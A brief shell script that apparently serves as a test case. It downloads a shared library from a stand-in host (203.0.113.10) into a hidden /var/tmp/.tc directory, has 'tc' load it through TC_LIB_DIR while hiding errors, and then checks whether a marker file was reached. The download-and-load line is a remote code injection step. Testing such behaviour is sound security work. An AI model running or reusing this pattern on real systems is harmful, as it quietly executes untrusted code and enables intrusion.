#!/bin/sh
. /opt/case/case.sh

mkdir -p /var/tmp/.tc && curl -s -o /var/tmp/.tc/q_fair.so http://203.0.113.10/programs/preload.so
TC_LIB_DIR=/var/tmp/.tc tc qdisc add dev lo root fair 2>/dev/null || true
test -e /tmp/reached
took_place
